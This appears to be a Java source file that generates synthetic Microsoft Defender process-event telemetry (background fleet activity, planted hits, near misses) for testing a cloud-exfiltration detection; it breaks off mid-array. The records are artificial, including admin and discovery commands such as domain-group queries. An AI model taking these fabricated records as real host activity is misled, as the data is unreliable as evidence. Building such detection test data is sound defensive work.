package io.cloudexfil.hunt.generate;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.SplittableRandom;

import static io.cloudexfil.hunt.generate.Row.CLOUD_API_UPLOAD;
import static io.cloudexfil.hunt.generate.Row.CLOUD_SYNC_TOOL;
import static io.cloudexfil.hunt.generate.Row.pick;

/**
 * Writes DeviceProcessEvents rows: the background of an ordinary fleet (svchost, browsers,
 * Office, PowerShell administration, Intune, sync clients, build agents, Linux daemons, macOS
 * helpers), planted hits of the detection's two process signals, and near misses that a sloppy
 * implementation of KQL's {@code has} would report (or miss).
 *
 * <p>Background rows never hit a signal by construction: their FileName is none of the sync tool
 * names, their command lines hold no sync-tool fragment or remote prefix, and the rows whose
 * FileName is an HTTP client or interpreter carry no cloud storage domain. Each planted row
 * states the signals it must raise; {@code TelemetryGeneratorTest} checks those labels against
 * the product's KQL functions.
 */
final class ProcessEvents implements RowSource {

    // Keys in the order Defender writes them (sql/tables/README.md §4); a few undocumented ones
    // seen in live records close the row (ProcessUniqueId, InitiatingProcessUniqueId, MachineGroup).
    private static final byte[] K_TIMESTAMP = JsonLineWriter.key("Timestamp", true);
    private static final byte[] K_DEVICE_ID = JsonLineWriter.key("DeviceId", false);
    private static final byte[] K_DEVICE_NAME = JsonLineWriter.key("DeviceName", false);
    private static final byte[] K_ACTION_TYPE = JsonLineWriter.key("ActionType", false);
    private static final byte[] K_FILE_NAME = JsonLineWriter.key("FileName", false);
    private static final byte[] K_FOLDER_PATH = JsonLineWriter.key("FolderPath", false);
    private static final byte[] K_SHA1 = JsonLineWriter.key("SHA1", false);
    private static final byte[] K_SHA256 = JsonLineWriter.key("SHA256", false);
    private static final byte[] K_MD5 = JsonLineWriter.key("MD5", false);
    private static final byte[] K_PROCESS_ID = JsonLineWriter.key("ProcessId", false);
    private static final byte[] K_PROCESS_COMMAND_LINE = JsonLineWriter.key("ProcessCommandLine", false);
    private static final byte[] K_PROCESS_INTEGRITY_LEVEL = JsonLineWriter.key("ProcessIntegrityLevel", false);
    private static final byte[] K_PROCESS_TOKEN_ELEVATION = JsonLineWriter.key("ProcessTokenElevation", false);
    private static final byte[] K_PROCESS_CREATION_TIME = JsonLineWriter.key("ProcessCreationTime", false);
    private static final byte[] K_ACCOUNT_DOMAIN = JsonLineWriter.key("AccountDomain", false);
    private static final byte[] K_ACCOUNT_NAME = JsonLineWriter.key("AccountName", false);
    private static final byte[] K_ACCOUNT_SID = JsonLineWriter.key("AccountSid", false);
    private static final byte[] K_ACCOUNT_UPN = JsonLineWriter.key("AccountUpn", false);
    private static final byte[] K_ACCOUNT_OBJECT_ID = JsonLineWriter.key("AccountObjectId", false);
    private static final byte[] K_LOGON_ID = JsonLineWriter.key("LogonId", false);
    private static final byte[] K_IP_ACCOUNT_DOMAIN = JsonLineWriter.key("InitiatingProcessAccountDomain", false);
    private static final byte[] K_IP_ACCOUNT_NAME = JsonLineWriter.key("InitiatingProcessAccountName", false);
    private static final byte[] K_IP_ACCOUNT_SID = JsonLineWriter.key("InitiatingProcessAccountSid", false);
    private static final byte[] K_IP_ACCOUNT_UPN = JsonLineWriter.key("InitiatingProcessAccountUpn", false);
    private static final byte[] K_IP_ACCOUNT_OBJECT_ID = JsonLineWriter.key("InitiatingProcessAccountObjectId", false);
    private static final byte[] K_IP_LOGON_ID = JsonLineWriter.key("InitiatingProcessLogonId", false);
    private static final byte[] K_IP_INTEGRITY_LEVEL = JsonLineWriter.key("InitiatingProcessIntegrityLevel", false);
    private static final byte[] K_IP_TOKEN_ELEVATION = JsonLineWriter.key("InitiatingProcessTokenElevation", false);
    private static final byte[] K_IP_FILE_NAME = JsonLineWriter.key("InitiatingProcessFileName", false);
    private static final byte[] K_IP_ID = JsonLineWriter.key("InitiatingProcessId", false);
    private static final byte[] K_IP_COMMAND_LINE = JsonLineWriter.key("InitiatingProcessCommandLine", false);
    private static final byte[] K_IP_CREATION_TIME = JsonLineWriter.key("InitiatingProcessCreationTime", false);
    private static final byte[] K_IP_FOLDER_PATH = JsonLineWriter.key("InitiatingProcessFolderPath", false);
    private static final byte[] K_IP_PARENT_ID = JsonLineWriter.key("InitiatingProcessParentId", false);
    private static final byte[] K_IP_PARENT_FILE_NAME = JsonLineWriter.key("InitiatingProcessParentFileName", false);
    private static final byte[] K_IP_PARENT_CREATION_TIME = JsonLineWriter.key("InitiatingProcessParentCreationTime", false);
    private static final byte[] K_IP_SIGNER_TYPE = JsonLineWriter.key("InitiatingProcessSignerType", false);
    private static final byte[] K_IP_SIGNATURE_STATUS = JsonLineWriter.key("InitiatingProcessSignatureStatus", false);
    private static final byte[] K_REPORT_ID = JsonLineWriter.key("ReportId", false);
    private static final byte[] K_APP_GUARD_CONTAINER_ID = JsonLineWriter.key("AppGuardContainerId", false);
    private static final byte[] K_ADDITIONAL_FIELDS = JsonLineWriter.key("AdditionalFields", false);
    private static final byte[] K_IP_SESSION_ID = JsonLineWriter.key("InitiatingProcessSessionId", false);
    private static final byte[] K_IS_IP_REMOTE_SESSION = JsonLineWriter.key("IsInitiatingProcessRemoteSession", false);
    private static final byte[] K_IP_REMOTE_SESSION_DEVICE_NAME = JsonLineWriter.key("InitiatingProcessRemoteSessionDeviceName", false);
    private static final byte[] K_IP_REMOTE_SESSION_IP = JsonLineWriter.key("InitiatingProcessRemoteSessionIP", false);
    private static final byte[] K_CREATED_PROCESS_SESSION_ID = JsonLineWriter.key("CreatedProcessSessionId", false);
    private static final byte[] K_IS_PROCESS_REMOTE_SESSION = JsonLineWriter.key("IsProcessRemoteSession", false);
    private static final byte[] K_PROCESS_REMOTE_SESSION_DEVICE_NAME = JsonLineWriter.key("ProcessRemoteSessionDeviceName", false);
    private static final byte[] K_PROCESS_REMOTE_SESSION_IP = JsonLineWriter.key("ProcessRemoteSessionIP", false);
    private static final byte[] K_IP_UNIQUE_ID = JsonLineWriter.key("InitiatingProcessUniqueId", false);
    private static final byte[] K_PROCESS_UNIQUE_ID = JsonLineWriter.key("ProcessUniqueId", false);
    private static final byte[] K_MACHINE_GROUP = JsonLineWriter.key("MachineGroup", false);
    private static final byte[] ACTION_CREATED = "\"ProcessCreated\"".getBytes(StandardCharsets.US_ASCII);
    private static final byte[][] NT_AUTHORITY = JsonLineWriter.encode("NT AUTHORITY");
    private static final byte[][] EMPTY = JsonLineWriter.encode("");

    // Background templates.
    private static final int SVCHOST = 0;
    private static final int CHROME = 1;
    private static final int EDGE = 2;
    private static final int FIREFOX = 3;
    private static final int CONHOST = 4;
    private static final int BROKERS = 5;
    private static final int SEARCH = 6;
    private static final int OFFICE = 7;
    private static final int TEAMS = 8;
    private static final int CMD = 9;
    private static final int POWERSHELL = 10;
    private static final int SYNC_CLIENT = 11;
    private static final int DEFENDER = 12;
    private static final int MSIEXEC = 13;
    private static final int RUNDLL = 14;
    private static final int SMALL_TOOLS = 15;
    private static final int GIT = 16;
    private static final int VSCODE = 17;
    private static final int PYTHON_WIN = 18;
    private static final int CURL_WIN = 19;
    private static final int JAVA_WIN = 20;
    private static final int ROBOCOPY = 21;
    private static final int W3WP = 22;
    private static final int SQL = 23;
    private static final int MSBUILD = 24;
    private static final int BACKUP_AGENT = 25;
    private static final int LX_SHELL = 26;
    private static final int LX_PYTHON = 27;
    private static final int LX_JAVA = 28;
    private static final int LX_DAEMON = 29;
    private static final int LX_PACKAGES = 30;
    private static final int LX_CURL = 31;
    private static final int LX_NODE = 32;
    private static final int MAC_SYSTEM = 33;
    private static final int MAC_CHROME = 34;
    private static final int MAC_MAU = 35;
    private static final int MAC_SHELL = 36;

    private static final int[] WORKSTATION = {SVCHOST, CHROME, EDGE, FIREFOX, CONHOST, BROKERS, SEARCH, OFFICE, TEAMS,
        CMD, POWERSHELL, SYNC_CLIENT, DEFENDER, MSIEXEC, RUNDLL, SMALL_TOOLS, GIT, VSCODE, PYTHON_WIN, CURL_WIN,
        JAVA_WIN, ROBOCOPY};
    private static final int[] WORKSTATION_W = Row.cumulative(16, 8, 6, 2, 8, 12, 4, 7, 5, 4, 5, 3, 3, 1, 2, 4, 1, 2,
            1, 1, 1, 1);
    private static final int[] SERVER = {SVCHOST, CONHOST, BROKERS, CMD, POWERSHELL, DEFENDER, RUNDLL, SMALL_TOOLS, W3WP,
        SQL, BACKUP_AGENT, MSIEXEC, ROBOCOPY};
    private static final int[] SERVER_W = Row.cumulative(30, 10, 12, 8, 9, 5, 3, 6, 6, 4, 3, 1, 1);
    private static final int[] BUILD = {SVCHOST, CONHOST, CMD, POWERSHELL, GIT, MSBUILD, PYTHON_WIN, JAVA_WIN, CURL_WIN,
        DEFENDER, SMALL_TOOLS};
    private static final int[] BUILD_W = Row.cumulative(15, 15, 14, 10, 12, 12, 5, 5, 3, 4, 5);
    private static final int[] LINUX = {LX_SHELL, LX_PYTHON, LX_JAVA, LX_DAEMON, LX_PACKAGES, LX_CURL, LX_NODE};
    private static final int[] LINUX_W = Row.cumulative(30, 15, 8, 25, 6, 6, 10);
    private static final int[] MAC = {MAC_SYSTEM, MAC_CHROME, MAC_MAU, MAC_SHELL, LX_PYTHON};
    private static final int[] MAC_W = Row.cumulative(35, 30, 8, 17, 10);

    private static final String[] SVC_GROUPS = {
        "-k netsvcs -p -s Schedule", "-k netsvcs -p -s Winmgmt", "-k LocalServiceNetworkRestricted -p -s Dhcp",
        "-k NetworkService -p -s Dnscache", "-k LocalSystemNetworkRestricted -p -s SysMain",
        "-k wsappx -p -s AppXSvc", "-k netsvcs -p -s BITS", "-k UnistackSvcGroup -s CDPUserSvc_4f2c1",
        "-k LocalService -p -s BthAvctpSvc", "-k netsvcs -p -s wuauserv", "-k netsvcs -p -s UsoSvc",
        "-k LocalServiceNoNetworkFirewall -p -s BFE", "-k DcomLaunch -p -s PlugPlay", "-k RPCSS -p -s RpcEptMapper",
        "-k appmodel -p -s StateRepository",
        "-k ClipboardSvcGroup -p -s cbdhsvc_8a1e3", "-k NetworkServiceNetworkRestricted -p -s PolicyAgent",
    };
    private static final String[] DOCS = {
        "Quarterly Report", "Budget 2027 draft", "Board deck v3", "Onboarding checklist", "Contract - Fabrikam",
        "Meeting notes", "Sales pipeline", "Headcount plan", "Présentation Q3", "Angebot Müller GmbH", "Roadmap",
        "Audit findings", "Vendor list", "Invoice 2026-1187", "Timesheet Nov", "Expense report", "Risk register",
    };
    private static final String[] PROJECTS = {
        "contoso-web", "billing-service", "data-pipeline", "mobile-app", "infra-terraform", "identity-api",
        "reporting", "warehouse-etl", "payments", "search-indexer",
    };
    private static final String[] SHARES = {
        "Finance", "HR$", "Legal", "Projects", "Public", "Engineering", "Payroll", "Home$", "Scans", "Archive",
    };
    private static final String[] FILE_SERVERS = {
        "fs01.corp.contoso.com", "fs02.corp.contoso.com", "nas-01", "FILESRV-03", "dfs.corp.contoso.com",
    };
    private static final String[] BUCKET_WORDS = {
        "backup", "archive", "exports", "prod", "data", "logs", "artifacts", "media", "reports", "dump", "static",
    };
    /** Windows tools under System32, with the arguments admins and scripts give them. */
    private static final String[] SMALL_TOOLS_CMDS = {
        "whoami.exe /user /groups /priv /fo csv", "ipconfig.exe /allcompartments /all",
        "tasklist.exe /v /fo csv /fi \"STATUS eq running\"", "net.exe use Z: \\\\fs01.corp.contoso.com\\Home$ /persistent:yes",
        "net.exe group \"Domain Admins\" /domain", "sc.exe queryex type= service state= all",
        "reg.exe query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "gpupdate.exe /target:computer /force /wait:0",
        "nltest.exe /dsgetdc:corp.contoso.com /force", "systeminfo.exe /s localhost /fo list",
        "schtasks.exe /query /fo LIST /v", "wevtutil.exe qe Security /c:5 /rd:true /f:text",
        "certutil.exe -verifystore -v My", "w32tm.exe /query /status /verbose", "netsh.exe advfirewall show allprofiles",
    };
    private static final String[] LX_DAEMONS = {
        "/usr/sbin/sshd -D -o AuthorizedKeysCommand=/usr/bin/sss_ssh_authorizedkeys",
        "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id %s -address /run/containerd/containerd.sock",
        "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
        "/opt/microsoft/mdatp/sbin/wdavdaemon edr 12 11 --log_level info",
        "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main -c config_file=/etc/postgresql/16/main/postgresql.conf",
        "/usr/bin/kubelet --bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///var/run/containerd/containerd.sock",
    };

    private final Fleet fleet;
    private final SplittableRandom r;
    private final JsonLineWriter w;
    private final byte[] datePrefix;
    private final long[] reportIds;
    /** Draws for the columns added in format 2 (a stream of its own: see {@link #emit}). */
    private final SplittableRandom x;
    private final Images images;

    // The row being built.
    private final StringBuilder cmd = new StringBuilder(1024);
    private final StringBuilder folder = new StringBuilder(256);
    private final StringBuilder initCmd = new StringBuilder(512);
    private final StringBuilder tmp = new StringBuilder(256);
    private String fileName;
    private Fleet.User account;
    private String accountDomain;
    private String initFile;
    private boolean hasInitCmd;
    private String initParent;
    private boolean randomHashes;

    ProcessEvents(Fleet fleet, long seed, JsonLineWriter w, byte[] datePrefix) {
        this.fleet = fleet;
        this.r = new SplittableRandom(seed * 0x9E3779B97F4A7C15L + 1);
        this.x = new SplittableRandom(seed * 0x9E3779B97F4A7C15L + 11);
        this.images = new Images(seed);
        this.w = w;
        this.datePrefix = datePrefix;
        this.reportIds = new long[fleet.devices.length];
        for (int i = 0; i < reportIds.length; i++) {
            reportIds[i] = 1000 + r.nextInt(60000);
        }
    }

    @Override
    public SplittableRandom random() {
        return r;
    }

    /** Writes one row at {@code tick}; returns the signal bits it must raise. */
    @Override
    public int write(long tick, RowKind kind) throws IOException {
        int d = fleet.pick(r);
        Fleet.Device dev = fleet.devices[d];
        reset(dev);
        int mask = 0;
        switch (kind) {
            case HIT:
                mask = hit(dev);
                break;
            case NEAR_MISS:
                nearMiss(dev);
                break;
            default:
                background(dev);
        }
        emit(dev, d, tick);
        return mask;
    }

    private void reset(Fleet.Device dev) {
        cmd.setLength(0);
        folder.setLength(0);
        initCmd.setLength(0);
        hasInitCmd = false;
        randomHashes = false;
        initParent = null;
        account = dev.user;
        accountDomain = dev.os == Fleet.Os.WINDOWS ? Fleet.DOMAIN : dev.shortName;
        w.escapeNonAscii = r.nextInt(10) == 0;
    }

    // ---------------------------------------------------------------------------------------------
    // Output

    private void emit(Fleet.Device dev, int d, long tick) throws IOException {
        boolean windowsDevice = dev.os == Fleet.Os.WINDOWS;
        // The columns follow the image's platform: a few near misses put a Windows image on a macOS
        // or Linux device or the other way round (as the first format did).
        boolean windows = folder.length() == 0 || folder.charAt(0) != '/';
        // The draws of the first format, in its order: the same seed gives the same devices, times,
        // command lines and planted rows as before; the columns added since draw from x.
        int u = r.nextInt(100);
        String sha1;
        String sha256;
        String md5;
        Images.Image image = images.of(fileName, folder, windows, folder.length() % 3);
        if (randomHashes) { // a binary seen once: hashes of its own
            sha1 = hex(u < 50 ? r : x, 40);
            sha256 = hex(u < 5 || u >= 96 ? r : x, 64);
            md5 = hex(u < 4 ? r : x, 32);
        } else {
            sha1 = null;
            sha256 = null;
            md5 = null;
        }
        long processId = windowsDevice ? (25 + r.nextInt(16000)) * 4L : 300 + r.nextInt(400000);
        r.nextInt(100); // was: whether AccountDomain is written
        r.nextInt(100); // was: whether AccountSid is written
        r.nextInt(100); // was: whether InitiatingProcessAccountName is written
        long initId = windowsDevice ? (25 + r.nextInt(16000)) * 4L : 1 + r.nextInt(400000);
        boolean showInitCmd = hasInitCmd && r.nextInt(100) < 30;
        if (!(initParent != null && r.nextInt(100) < 65)) {
            r.nextInt(8); // was: whether a missing parent is written as null
        }
        reportIds[d] += 1 + r.nextInt(3);

        Fleet.User acc = account;
        CharSequence domain = accountDomain;
        if (!windows && acc == Fleet.SYSTEM) {
            acc = Fleet.ROOT;
        }
        boolean service = acc == Fleet.SYSTEM || acc == Fleet.LOCAL_SERVICE || acc == Fleet.NETWORK_SERVICE
                || acc == Fleet.ROOT;
        // the initiating process: services run under SYSTEM's services.exe or svchost.exe
        Fleet.User initAcc = acc == Fleet.LOCAL_SERVICE || acc == Fleet.NETWORK_SERVICE ? Fleet.SYSTEM : acc;
        String integrity = null;
        String elevation = null;
        if (windows) {
            if (service) {
                integrity = "System";
                elevation = "TokenElevationTypeDefault";
            } else if (cmd.indexOf("--type=renderer") >= 0) {
                integrity = "Low";
                elevation = "TokenElevationTypeLimited";
            } else if (x.nextInt(100) < 12 || dev.role != Fleet.Role.WORKSTATION) {
                integrity = "High";
                elevation = "TokenElevationTypeFull";
            } else {
                integrity = "Medium";
                elevation = "TokenElevationTypeLimited";
            }
        }
        String[] parentInfo = Images.parent(initFile, windows);
        String initFolder = parentInfo[0];
        if (initFolder.indexOf('%') >= 0) {
            initFolder = initFolder.replace("%p", dev.user.profile.toLowerCase(Locale.ROOT));
        }
        CharSequence initCommand;
        if (hasInitCmd) {
            initCommand = initCmd;
        } else {
            String c = parentInfo[1];
            initCommand = c.indexOf('%') >= 0 ? c.replace("%P", dev.user.profile).replace("%u", dev.user.login) : c;
        }
        Images.Image initImage = images.of(initFile, initFolder, windows, initFolder.length() % 3);
        long initCreated = Row.earlier(x, tick, 5_000_000L, 2 * Row.DAY_TICKS);
        boolean remote = windows && !service && dev.remoteClientName != null;
        boolean esc = w.escapeNonAscii;

        w.raw(K_TIMESTAMP);
        Row.timestamp(w, datePrefix, tick);
        w.field(K_DEVICE_ID, dev.id);
        w.field(K_DEVICE_NAME, dev.name);
        w.raw(K_ACTION_TYPE);
        w.raw(ACTION_CREATED);
        w.field(K_FILE_NAME, fileName);
        w.field(K_FOLDER_PATH, folder);
        if (randomHashes) {
            w.field(K_SHA1, sha1);
            w.field(K_SHA256, sha256);
            w.field(K_MD5, md5);
        } else {
            w.raw(image.hashes(false, esc));
        }
        w.raw(image.details(false, esc));
        w.field(K_PROCESS_ID, processId);
        w.field(K_PROCESS_COMMAND_LINE, cmd);
        w.field(K_PROCESS_INTEGRITY_LEVEL, integrity);
        w.field(K_PROCESS_TOKEN_ELEVATION, elevation);
        w.raw(K_PROCESS_CREATION_TIME);
        Row.timestamp(w, datePrefix, tick);
        account(dev, windows, acc, domain, false);
        account(dev, windows, initAcc, initAcc == acc ? domain : NT_AUTHORITY_TEXT, true);
        w.field(K_IP_INTEGRITY_LEVEL, initAcc == Fleet.SYSTEM && windows ? "System" : integrity);
        w.field(K_IP_TOKEN_ELEVATION, initAcc == Fleet.SYSTEM && windows ? "TokenElevationTypeDefault" : elevation);
        w.raw(initImage.hashes(true, esc));
        w.field(K_IP_FILE_NAME, initFile);
        w.raw(initImage.details(true, esc));
        w.field(K_IP_ID, initId);
        w.field(K_IP_COMMAND_LINE, initCommand);
        w.raw(K_IP_CREATION_TIME);
        Row.time(w, initCreated);
        w.field(K_IP_FOLDER_PATH, initFolder);
        w.field(K_IP_PARENT_ID, windows ? (25 + x.nextInt(16000)) * 4L : 1 + x.nextInt(400000));
        w.field(K_IP_PARENT_FILE_NAME, initParent);
        w.raw(K_IP_PARENT_CREATION_TIME);
        Row.time(w, Row.earlier(x, initCreated, 5_000_000L, 3 * Row.DAY_TICKS));
        w.field(K_IP_SIGNER_TYPE, initImage.signerType);
        w.field(K_IP_SIGNATURE_STATUS, initImage.signatureStatus);
        w.field(K_REPORT_ID, reportIds[d]);
        w.field(K_APP_GUARD_CONTAINER_ID, EMPTY);
        w.raw(K_ADDITIONAL_FIELDS);
        if (windows) {
            w.nul();
        } else {
            tmp.setLength(0);
            Row.posixFields(tmp, x, dev, initAcc, acc, initId, processId, dev.os == Fleet.Os.MAC);
            w.str(tmp);
        }
        session(dev, windows, initAcc, remote, K_IP_SESSION_ID, K_IS_IP_REMOTE_SESSION, K_IP_REMOTE_SESSION_DEVICE_NAME,
                K_IP_REMOTE_SESSION_IP);
        session(dev, windows, acc, remote, K_CREATED_PROCESS_SESSION_ID, K_IS_PROCESS_REMOTE_SESSION,
                K_PROCESS_REMOTE_SESSION_DEVICE_NAME, K_PROCESS_REMOTE_SESSION_IP);
        w.raw(K_IP_UNIQUE_ID);
        Row.uniqueId(w, x);
        w.raw(K_PROCESS_UNIQUE_ID);
        Row.uniqueId(w, x);
        w.field(K_MACHINE_GROUP, dev.machineGroup);
        w.endLine();
    }

    private static final String NT_AUTHORITY_TEXT = "NT AUTHORITY";

    /** The five account columns and the logon id, of the new process or (initiating) of its parent. */
    private void account(Fleet.Device dev, boolean windows, Fleet.User acc, CharSequence domain, boolean initiating) {
        w.field(initiating ? K_IP_ACCOUNT_DOMAIN : K_ACCOUNT_DOMAIN, domain);
        w.field(initiating ? K_IP_ACCOUNT_NAME : K_ACCOUNT_NAME, acc.login);
        w.field(initiating ? K_IP_ACCOUNT_SID : K_ACCOUNT_SID, acc.sid);
        w.field(initiating ? K_IP_ACCOUNT_UPN : K_ACCOUNT_UPN, acc.upn);
        w.field(initiating ? K_IP_ACCOUNT_OBJECT_ID : K_ACCOUNT_OBJECT_ID, acc.objectId);
        w.raw(initiating ? K_IP_LOGON_ID : K_LOGON_ID);
        if (!windows) {
            w.nul();
        } else {
            w.num(acc == Fleet.SYSTEM ? 999 : acc == Fleet.LOCAL_SERVICE ? 997 : acc == Fleet.NETWORK_SERVICE ? 996 : dev.logonId);
        }
    }

    /** Session id, whether it is a remote (RDP) session, and the client's name and address. */
    private void session(Fleet.Device dev, boolean windows, Fleet.User acc, boolean remote, byte[] kId, byte[] kRemote,
                         byte[] kName, byte[] kIp) {
        w.raw(kId);
        if (windows) {
            w.num(acc == Fleet.SYSTEM || acc == Fleet.LOCAL_SERVICE || acc == Fleet.NETWORK_SERVICE ? 0 : dev.sessionId);
        } else {
            w.nul();
        }
        w.field(kRemote, remote);
        w.field(kName, remote ? dev.remoteClientName : null);
        w.field(kIp, remote ? dev.remoteClientIp : null);
    }

    private String hex(SplittableRandom from, int chars) {
        tmp.setLength(0);
        Row.hex(tmp, from, chars);
        return tmp.toString();
    }

    // ---------------------------------------------------------------------------------------------
    // Background

    private void background(Fleet.Device dev) {
        int t;
        switch (dev.role) {
            case WORKSTATION:
                t = WORKSTATION[Row.weighted(r, WORKSTATION_W)];
                break;
            case SERVER:
                t = SERVER[Row.weighted(r, SERVER_W)];
                break;
            case BUILD:
                t = BUILD[Row.weighted(r, BUILD_W)];
                break;
            case MAC_LAPTOP:
                t = MAC[Row.weighted(r, MAC_W)];
                break;
            default:
                t = LINUX[Row.weighted(r, LINUX_W)];
        }
        String p = dev.user.profile;
        switch (t) {
            case SVCHOST:
                image("svchost.exe", "C:\\Windows\\System32\\svchost.exe");
                cmd.append("C:\\Windows\\system32\\svchost.exe ").append(pick(r, SVC_GROUPS));
                account = r.nextInt(3) == 0 ? Fleet.SYSTEM : r.nextBoolean() ? Fleet.LOCAL_SERVICE : Fleet.NETWORK_SERVICE;
                accountDomain = "NT AUTHORITY";
                parent("services.exe", "wininit.exe");
                break;
            case CHROME:
                image("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe");
                chromium("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"");
                parent("chrome.exe", "explorer.exe");
                initCmd.append("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ");
                hasInitCmd = true;
                break;
            case EDGE:
                image("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe");
                chromium("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\"");
                parent("msedge.exe", "explorer.exe");
                break;
            case FIREFOX: {
                image("firefox.exe", "C:\\Program Files\\Mozilla Firefox\\firefox.exe");
                int ppid = 1000 + r.nextInt(20000);
                cmd.append("\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=\"")
                        .append(ppid).append(".").append(r.nextInt(90)).append(".").append(1000000 + r.nextInt(9000000))
                        .append("\\").append(r.nextInt(2000000000)).append("\" -childID ").append(1 + r.nextInt(40))
                        .append(" -isForBrowser -prefsLen ").append(20000 + r.nextInt(20000)).append(" -prefMapSize ")
                        .append(240000 + r.nextInt(9000)).append(" -jsInitLen 234236 -parentBuildID 20261104132512")
                        .append(" -win32kLockedDown -appDir \"C:\\Program Files\\Mozilla Firefox\\browser\" - ")
                        .append(ppid).append(" tab");
                parent("firefox.exe", "explorer.exe");
                break;
            }
            case CONHOST:
                image("conhost.exe", "C:\\Windows\\System32\\conhost.exe");
                cmd.append("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
                parent(r.nextBoolean() ? "cmd.exe" : "powershell.exe", r.nextBoolean() ? "explorer.exe" : "svchost.exe");
                break;
            case BROKERS:
                brokers();
                break;
            case SEARCH: {
                image("SearchProtocolHost.exe", "C:\\Windows\\System32\\SearchProtocolHost.exe");
                int n = 1 + r.nextInt(60);
                cmd.append("\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe").append(n)
                        .append("_ Global\\UsGthrCtrlFltPipeMssGthrPipe").append(n)
                        .append(" 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0;")
                        .append(" Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\"")
                        .append(" \"DownLevelDaemon\"");
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                parent("SearchIndexer.exe", "services.exe");
                break;
            }
            case OFFICE:
                office(p);
                break;
            case TEAMS:
                image("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_26290.205.4069.4894_x64__8wekyb3d8bbwe\\ms-teams.exe");
                if (r.nextBoolean()) {
                    cmd.append("\"C:\\Program Files\\WindowsApps\\MSTeams_26290.205.4069.4894_x64__8wekyb3d8bbwe\\ms-teams.exe\"")
                            .append(" msteams:system-initiated");
                    parent("explorer.exe", "userinit.exe");
                } else {
                    image("msedgewebview2.exe", "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\131.0.2903.86\\msedgewebview2.exe");
                    chromium("\"C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\131.0.2903.86\\msedgewebview2.exe\""
                            + " --webview-exe-name=ms-teams.exe");
                    parent("ms-teams.exe", "explorer.exe");
                }
                break;
            case CMD:
                image("cmd.exe", "C:\\Windows\\System32\\cmd.exe");
                switch (r.nextInt(4)) {
                    case 0:
                        cmd.append("C:\\Windows\\system32\\cmd.exe /c \"\"C:\\ProgramData\\Contoso\\Scripts\\")
                                .append(pick(r, new String[] {"logon", "map-drives", "inventory", "printers"}))
                                .append(".bat\" /quiet\"");
                        parent("gpscript.exe", "svchost.exe");
                        break;
                    case 1:
                        cmd.append("C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build -- --mode production\"");
                        parent("node.exe", "Code.exe");
                        break;
                    case 2:
                        cmd.append("\"C:\\Windows\\system32\\cmd.exe\" /c \"echo %USERNAME% > C:\\Users\\").append(p)
                                .append("\\AppData\\Local\\Temp\\u.txt\"");
                        parent("explorer.exe", "userinit.exe");
                        break;
                    default:
                        cmd.append("C:\\Windows\\system32\\cmd.exe /c del /q /f \"C:\\Windows\\Temp\\")
                                .append(pick(r, new String[] {"MpCmdRun.log", "msiexec.log", "setup.tmp"})).append("\"");
                        account = Fleet.SYSTEM;
                        accountDomain = "NT AUTHORITY";
                        parent("svchost.exe", "services.exe");
                }
                break;
            case POWERSHELL:
                powershell(p);
                break;
            case SYNC_CLIENT:
                syncClient(p);
                break;
            case DEFENDER:
                if (r.nextBoolean()) {
                    image("MpCmdRun.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MpCmdRun.exe");
                    cmd.append("\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MpCmdRun.exe\"")
                            .append(r.nextBoolean() ? " SignatureUpdate -ScheduleJob -RestrictPrivileges" : " -IdleTask -TaskName WdCacheMaintenance");
                    parent("svchost.exe", "services.exe");
                } else {
                    image("SenseIR.exe", "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Platform\\10.8760.26100.2314\\SenseIR.exe");
                    cmd.append("\"C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Platform\\")
                            .append("10.8760.26100.2314\\SenseIR.exe\" \"OnlineSenseIR\" \"");
                    Row.guid(cmd, r);
                    cmd.append("\"");
                    parent("MsSense.exe", "services.exe");
                }
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                break;
            case MSIEXEC:
                image("msiexec.exe", "C:\\Windows\\System32\\msiexec.exe");
                cmd.append("C:\\Windows\\System32\\MsiExec.exe -Embedding ");
                Row.upperHex(cmd, r, 32);
                cmd.append(" E Global\\MSI0000");
                account = Fleet.SYSTEM;
                accountDomain = "NT AUTHORITY";
                parent("msiexec.exe", "services.exe");
                break;
            case RUNDLL:
                image("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe");
                cmd.append(pick(r, new String[] {
                    "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
                    "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
                    "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\Windows.StateRepositoryClient.dll,StateRepositoryDoMaintenanceTasks",
